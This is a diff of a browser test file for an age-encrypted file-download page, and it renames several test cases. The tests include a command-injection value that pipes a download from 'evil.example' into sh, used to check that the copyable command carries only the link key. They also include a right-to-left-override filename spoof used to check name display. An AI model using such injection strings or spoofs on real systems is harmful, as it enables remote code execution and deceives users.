@@ -87,7 +87,7 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
     assert.deepEqual(complaints, []);
   });
 
-  test("asks for a passphrase, and after a wrong one again without another download", async () => {
+  test("asks for a passphrase, and after a wrong one again, without another download", async () => {
     await using opened = await openPage(browser);
     const { page, complaints } = opened;
     const file = await send(await encrypt(BYTES, byPassphrase), { maxDownloads: "2" });
@@ -114,7 +114,7 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
     return released.resolve;
   }
 
-  test("decrypts in a worker that has no connection, and ends it", async () => {
+  test("decrypts in a worker without a connection, and ends the worker", async () => {
     await using opened = await openPage(browser);
     const { page, complaints } = opened;
     const script = page.waitForEvent("response", (response) => response.url().includes("/assets/decrypt.worker-"));
@@ -127,7 +127,7 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
     assert.deepEqual(complaints, []);
   });
 
-  test("can be cancelled, keeps what it shows when the page changes, and can begin again", async () => {
+  test("can cancel, keeps its messages when the page changes, and can begin again", async () => {
     await using opened = await openPage(browser);
     const { page } = opened;
     const link = linkOf(await send(await encrypt(BYTES, byPassphrase)));
@@ -149,7 +149,7 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
     assert.deepEqual((await save(page)).bytes, new Uint8Array(BYTES));
   });
 
-  test("decrypts files that are written as text, and without WebCrypto, which sites without HTTPS lack", async () => {
+  test("decrypts files that are written as text, and without WebCrypto, which is missing without HTTPS", async () => {
     const sealed = await encrypt(BYTES);
     for (const bytes of [sealed, new Uint8Array(Buffer.from(armor.encode(sealed)))]) {
       const file = await send(bytes, {}, "report.pdf.age");
@@ -246,7 +246,7 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
     assert.equal(requests, 1);
   });
 
-  test("tells the hidden name of a large file, which nobody knows before a file is chosen for it", async () => {
+  test("shows the hidden name of a large file, which is unknown before a file is chosen for it", async () => {
     const { before, after } = wrapName({ name: "docs/\u202egpj.exe", sizeBytes: BYTES.length, modifiedMs: 0, isExecutable: false });
     const file = await send(await encrypt(Buffer.concat([before, BYTES, after])), {}, "encrypted-0123456789abcdef.tar.age");
     await using opened = await openPage(browser);
@@ -269,7 +269,7 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
     assert.deepEqual([size, complaints], [BYTES.length, []]);
   });
 
-  test("shows the command for a large file where the browser cannot write to a file, and requests nothing", async () => {
+  test("shows the command for a large file if the browser cannot write to a file, and requests nothing", async () => {
     await using opened = await openPage(browser);
     const { page, complaints } = opened;
     await page.addInitScript(() => Object.assign(globalThis, { showSaveFilePicker: undefined }));
@@ -324,7 +324,7 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
     }
   });
 
-  test("does not spend more on a passphrase than a usual file asks for", async () => {
+  test("does not spend more work on a passphrase than a usual file requires", async () => {
     const header = `age-encryption.org/v1\n-> scrypt ${"A".repeat(22)} 21\n${"A".repeat(43)}\n--- ${"A".repeat(43)}\n`;
     await using opened = await openPage(browser);
     const { page } = opened;
@@ -351,7 +351,7 @@ describeUnless(browserMissing, "the page of an encrypted file", () => {
     assert.deepEqual(complaints, []);
   });
 
-  test("takes nothing but the key of a link into the command to copy, and into the links to other languages", async () => {
+  test("takes only the key of a link into the command to copy, and into the links to other languages", async () => {
     const evil = "x=';curl$IFS-evil.example|sh;'";
     const { shortId, shareToken = "" } = (await clientOf(server).call("createShare", {})).data;
     const files = ["a.txt.age", "b.txt.age"].map(async (relativePath) => ({
